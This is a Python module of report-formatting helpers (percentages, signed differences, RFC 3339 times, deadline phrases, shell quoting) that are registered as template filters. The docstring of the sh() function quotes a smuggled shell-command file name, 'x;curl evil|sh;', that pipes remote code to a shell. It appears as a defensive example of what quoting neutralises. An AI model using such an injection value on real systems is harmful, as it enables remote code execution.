"""How numbers and times read in the HTML and PDF reports (the JSON keeps the raw values)."""

from __future__ import annotations

import shlex
from typing import Any

from lethe_audit.statements import parse_rfc3339

DASH = "—"


def pct(x: Any) -> str:
    """An accuracy (share in [0, 1]) as a percentage with two decimals."""
    if x is None:
        return DASH
    return f"{100 * float(x):.2f}%"


def pp(x: Any) -> str:
    """A difference of shares in percentage points, signed."""
    if x is None:
        return DASH
    v = 100 * float(x)
    if abs(v) < 0.005:
        return "±0.00 pp"
    return f"{v:+.2f} pp".replace("-", "−")


def num(x: Any) -> str:
    """A plain number, four significant digits."""
    if x is None:
        return DASH
    if isinstance(x, bool):
        return str(x).lower()
    if isinstance(x, int):
        return str(x)
    v = float(x) + 0.0  # no "-0"
    if v == 0:
        return "0"
    if abs(v) < 1e-3 or abs(v) >= 1e5:
        return f"{v:.3e}"
    return f"{v:.4g}"


def signed(x: Any) -> str:
    if x is None:
        return DASH
    s = num(x)
    return ("+" + s if float(x) > 0 else s).replace("-", "−")


def value(x: Any, unit: str) -> str:
    """A metric value by its unit: shares as percentages, the rest as numbers."""
    return pct(x) if unit == "share" else num(x)


def change(x: Any, unit: str) -> str:
    return pp(x) if unit == "share" else signed(x)


def when(text: Any) -> str:
    """An RFC 3339 UTC time as ``YYYY-MM-DD HH:MM UTC``."""
    if not text:
        return DASH
    try:
        t = parse_rfc3339(str(text))
    except ValueError:
        return str(text)
    return t.strftime("%Y-%m-%d %H:%M UTC")


def days(x: Any) -> str:
    if x is None:
        return DASH
    v = float(x)
    if v < 1:
        hours = v * 24
        return f"{hours:.1f} hours"
    return f"{v:.1f} days"


def deadline(d: dict[str, Any] | None) -> str:
    """One phrase for a request's deadline state."""
    if not d:
        return DASH
    state = d.get("state")
    if state == "met":
        return f"met ({days(d.get('days'))} before the due date)"
    if state == "late":
        return f"LATE by {days(d.get('days'))}"
    if state == "overdue":
        return f"OVERDUE by {days(d.get('days'))}"
    if state == "open":
        return f"open ({days(d.get('days'))} left)"
    return "unknown"


def sh(x: Any, always: bool = False) -> str:
    """``x`` as exactly one shell word (:func:`shlex.quote`) for copy-paste commands: a file
    name like ``x;curl evil|sh;.tlog-proof`` stays one harmless argument. ``always``: in
    single quotes even when nothing needs quoting (how vkeys are shown)."""
    text = str(x)
    quoted = shlex.quote(text)
    return f"'{quoted}'" if always and quoted == text else quoted


def good(direction: Any) -> str:
    """The "good is low/high" marker of a metric: ``low`` -> ``↓ low is good``."""
    if direction == "low":
        return "↓ low is good"
    if direction == "high":
        return "↑ high is good"
    return ""


FILTERS = {
    "good": good,
    "sh": sh,
    "pct": pct,
    "pp": pp,
    "num": num,
    "signed": signed,
    "value": value,
    "change": change,
    "when": when,
    "days": days,
    "deadline": deadline,
}
